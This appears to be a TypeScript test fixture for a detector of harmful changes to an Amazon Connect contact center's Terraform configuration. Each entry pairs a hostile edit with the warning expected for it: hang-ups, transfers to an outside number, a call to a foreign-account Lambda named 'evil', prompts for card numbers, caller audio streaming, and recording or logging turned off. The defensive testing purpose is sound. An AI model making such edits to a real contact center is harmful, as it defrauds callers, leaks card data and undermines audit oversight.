import type { Attack } from "./attack";

const MENU = "aws_connect_contact_flow.kwglobal_main_menu";

interface Branch {
  NextAction?: string | undefined;
}
interface Action {
  readonly Identifier: string;
  readonly Type: string;
  Parameters: Record<string, unknown>;
  Transitions: Branch & { Conditions?: Branch[]; Errors?: Branch[] };
}
interface Flow {
  StartAction: string;
  readonly Actions: Action[];
}

/** An edit of what callers meet first. */
const menu =
  (edit: (flow: Flow, action: (type: string) => Action) => void): Attack[1] =>
  ({ resource }) => {
    const block = resource(MENU);
    const flow = JSON.parse(String(block.content)) as Flow;
    edit(flow, (type) => {
      const found = flow.Actions.find(({ Type }) => Type === type);
      if (!found) throw new Error(`the menu has no ${type}`);
      return found;
    });
    block.content = JSON.stringify(flow);
  };

const EVIL = "arn:aws:lambda:us-west-2:999999999999:function:evil";

/** An edit that puts a block before the menu's greeting. */
const inserted = (
  Type: string,
  Parameters: Record<string, unknown>,
  ways: Action["Transitions"] = {},
) =>
  menu((flow, action) => {
    const { Identifier } = action("MessageParticipant");
    for (const { Transitions } of flow.Actions) {
      const branches = [
        Transitions,
        ...(Transitions.Errors ?? []),
        ...(Transitions.Conditions ?? []),
      ];
      for (const each of branches) if (each.NextAction === Identifier) each.NextAction = "x";
    }
    const Transitions = { NextAction: Identifier, ...ways };
    flow.Actions.push({ Identifier: "x", Type, Parameters, Transitions });
  });

const hours = ({ Actions }: Flow): Action => {
  const found = Actions.find(({ Identifier }) => Identifier === "Check hours of operation");
  if (!found) throw new Error("the menu has no hours");
  return found;
};

/** Flows whose harm can't be seen at a glance. */
export const FLOWS: readonly Attack[] = [
  [
    "a flow that hangs up, with all else left in it",
    menu((flow, action) => {
      flow.StartAction = action("DisconnectParticipant").Identifier;
    }),
    MENU,
    "disrupt",
    /no longer leads callers to/,
  ],
  [
    "a menu whose keys all lead to one queue",
    menu((_, action) => {
      const { Conditions = [], Errors = [] } = action("GetParticipantInput").Transitions;
      for (const each of [...Conditions, ...Errors]) each.NextAction = Conditions[0]?.NextAction;
    }),
    MENU,
    "disrupt",
    /no longer leads callers to/,
  ],
  [
    "a flow that sends callers to another telephone",
    menu((flow, action) => {
      const { Transitions } = action("MessageParticipant");
      flow.Actions.push({
        Identifier: "out",
        Type: "TransferParticipantToThirdParty",
        Parameters: {
          ThirdPartyPhoneNumber: "+9005550123",
          ThirdPartyConnectionTimeLimitSeconds: "30",
          ContinueFlowExecution: "False",
        },
        Transitions: { ...Transitions },
      });
      Transitions.NextAction = "out";
    }),
    MENU,
    "grant",
    /another telephone number/,
  ],
  [
    "a flow that records nothing",
    menu((_, action) => {
      action("UpdateContactRecordingAndAnalyticsBehavior").Parameters = {
        VoiceBehavior: { VoiceRecordingBehavior: { RecordedParticipants: [] } },
      };
    }),
    MENU,
    "unprotect",
    /no longer records/,
  ],
  [
    "a flow without a log",
    menu((_, action) => {
      action("UpdateFlowLoggingBehavior").Parameters = { FlowLoggingBehavior: "Disabled" };
    }),
    MENU,
    "disrupt",
    /flow's log off/,
  ],
  [
    "a text that is no flow",
    ({ resource }) => {
      resource(MENU).content = '{"Actions":"none"}';
    },
    MENU,
    "disrupt",
    /can't be read/,
  ],
  [
    "a flow that asks another account's function",
    inserted("InvokeLambdaFunction", { LambdaFunctionARN: EVIL, InvocationTimeLimitSeconds: "8" }),
    MENU,
    "grant",
    /isn't in this stack: arn:aws:lambda/,
  ],
  [
    "a flow that asks another account's bot",
    inserted("ConnectParticipantWithLexBot", {
      Text: "Your card number?",
      LexV2Bot: { AliasArn: "arn:aws:lex:us-west-2:999999999999:bot-alias/A/B" },
    }),
    MENU,
    "grant",
    /isn't in this stack: arn:aws:lex/,
  ],
  [
    "a flow that goes on with another instance's",
    inserted("TransferToFlow", {
      ContactFlowId: "arn:aws:connect:us-west-2:999999999999:instance/x/contact-flow/y",
    }),
    MENU,
    "grant",
    /isn't in this stack: arn:aws:connect/,
  ],
  [
    "a stream of what callers say",
    inserted("UpdateContactMediaStreamingBehavior", {
      MediaStreamingState: "Enabled",
      Participants: [{ ParticipantType: "Customer", MediaDirections: ["To", "From"] }],
      MediaStreamType: "Audio",
    }),
    MENU,
    "change",
    /UpdateContactMediaStreamingBehavior/,
  ],
  [
    "callers who wait in another instance's flow",
    menu((_, action) => {
      action("UpdateContactEventHooks").Parameters = {
        EventHooks: {
          CustomerQueue: "arn:aws:connect:us-west-2:999999999999:instance/x/contact-flow/y",
        },
      };
    }),
    MENU,
    "grant",
    /isn't in this stack: arn:aws:connect/,
  ],
  [
    "callers who wait without their flow",
    menu((_, action) => {
      action("UpdateContactEventHooks").Parameters = { EventHooks: {} };
    }),
    MENU,
    "disrupt",
    /no longer has for CustomerQueue/,
  ],
  [
    "a flow that records one side",
    menu((_, action) => {
      const { Parameters } = action("UpdateContactRecordingAndAnalyticsBehavior");
      const behavior = Parameters.VoiceBehavior as Record<string, unknown>;
      behavior.VoiceRecordingBehavior = { RecordedParticipants: ["Agent"] };
    }),
    MENU,
    "unprotect",
    /in another way/,
  ],
  [
    "a flow that analyzes nothing",
    menu((_, action) => {
      const { Parameters } = action("UpdateContactRecordingAndAnalyticsBehavior");
      delete (Parameters.VoiceBehavior as Record<string, unknown>).VoiceAnalyticsBehavior;
    }),
    MENU,
    "unprotect",
    /in another way/,
  ],
  [
    "a flow that skips the notice that calls are recorded",
    menu(({ Actions }) => {
      const [welcome, notice] = Actions.filter(({ Type }) => Type === "MessageParticipant");
      if (welcome && notice) welcome.Transitions = notice.Transitions;
    }),
    MENU,
    "unprotect",
    /aren't told so/,
  ],
  [
    "a flow that keeps what callers key in",
    menu((_, action) => {
      Object.assign(action("GetParticipantInput").Parameters, {
        StoreInput: "True",
        Text: "Please enter your card number",
      });
    }),
    MENU,
    "unprotect",
    /keeps what callers key in/,
  ],
  [
    "a flow that is closed while the center is open",
    menu((flow) => {
      const { Conditions: [yes, no] = [] } = hours(flow).Transitions;
      if (yes && no) [yes.NextAction, no.NextAction] = [no.NextAction, yes.NextAction];
    }),
    MENU,
    "disrupt",
    /no longer leads callers to/,
  ],
  [
    "a flow that transfers callers only where something fails",
    menu((flow, action) => {
      const { Conditions: [yes] = [] } = hours(flow).Transitions;
      const transfer = action("TransferContactToQueue").Identifier;
      const closed = flow.Actions.find(({ Identifier }) => Identifier === "Closed");
      const [error] = closed?.Transitions.Errors ?? [];
      if (yes && error) [yes.NextAction, error.NextAction] = ["Closed", transfer];
    }),
    MENU,
    "disrupt",
    /no longer leads callers to/,
  ],
  [
    "a flow that hangs up but by a comparison that is never true",
    inserted(
      "Compare",
      { ComparisonValue: "$.Channel" },
      {
        NextAction: "Disconnect",
        Errors: [{ NextAction: "Disconnect" }],
        Conditions: [{ NextAction: "Welcome" }],
      },
    ),
    MENU,
    "disrupt",
    /end without anybody after x/,
  ],
  [
    "a greeting without an end",
    menu((_, action) => {
      const greeting = action("MessageParticipant");
      greeting.Transitions.NextAction = greeting.Identifier;
    }),
    MENU,
    "disrupt",
    /no longer leads callers to/,
  ],
  [
    "keys that the menu doesn't say",
    menu((_, action) => {
      const { Conditions = [] } = action("GetParticipantInput").Transitions;
      const [one] = Conditions as { Condition?: object }[];
      if (one) one.Condition = { Operator: "Equals", Operands: ["8"] };
    }),
    MENU,
    "disrupt",
    /lets it lead to somebody else: 1 of/,
  ],
  [
    "a flow in which a block stands twice",
    menu((flow) => {
      flow.Actions.unshift({
        Identifier: "Welcome",
        Type: "DisconnectParticipant",
        Parameters: {},
        Transitions: {},
      });
    }),
    MENU,
    "disrupt",
    /can't be read/,
  ],
  [
    "a message that is never spoken",
    menu(({ Actions }) => {
      const module = Actions.find(({ Type }) => Type === "InvokeFlowModule");
      const [hook] = Actions.filter(({ Type }) => Type === "UpdateContactEventHooks");
      if (hook && module) hook.Transitions = module.Transitions;
    }),
    MENU,
    "disrupt",
    /no longer invokes/,
  ],
  [
    "a new flow that dials out",
    ({ add, resource }) => {
      const content = JSON.stringify({
        Version: "2019-10-30",
        StartAction: "out",
        Actions: [
          {
            Identifier: "out",
            Type: "TransferParticipantToThirdParty",
            Parameters: {
              ThirdPartyPhoneNumber: "+9005550123",
              ThirdPartyConnectionTimeLimitSeconds: "30",
              ContinueFlowExecution: "False",
            },
            Transitions: {},
          },
        ],
      });
      add("aws_connect_contact_flow.more", { ...resource(MENU), name: "More", content });
    },
    "aws_connect_contact_flow.more",
    "grant",
    /another telephone number/,
  ],
  [
    "a new module that asks another account's function",
    ({ add, resource }) => {
      const module = resource("aws_connect_contact_flow_module.kwglobal_message");
      const content = JSON.stringify({
        Version: "2019-10-30",
        StartAction: "ask",
        Actions: [
          {
            Identifier: "ask",
            Type: "InvokeLambdaFunction",
            Parameters: { LambdaFunctionARN: EVIL, InvocationTimeLimitSeconds: "8" },
            Transitions: {},
          },
        ],
      });
      add("aws_connect_contact_flow_module.more", { ...module, name: "More", content });
    },
    "aws_connect_contact_flow_module.more",
    "grant",
    /isn't in this stack/,
  ],
  [
    "a number that is called back whoever calls",
    ({ resource }) => {
      const block = resource("aws_connect_contact_flow.kwglobal_callback_in_queue");
      block.content = String(block.content).replace("$.CustomerEndpoint.Address", "+9005550123");
    },
    "aws_connect_contact_flow.kwglobal_callback_in_queue",
    "grant",
    /calls one back/,
  ],
  [
    "a flow that goes, and to which callers are still led",
    ({ remove }) => {
      remove("aws_connect_contact_flow.kwglobal_callback_in_queue");
    },
    "aws_connect_contact_flow.kwglobal_callback_in_queue",
    "destroy",
    /still leads/,
  ],
];
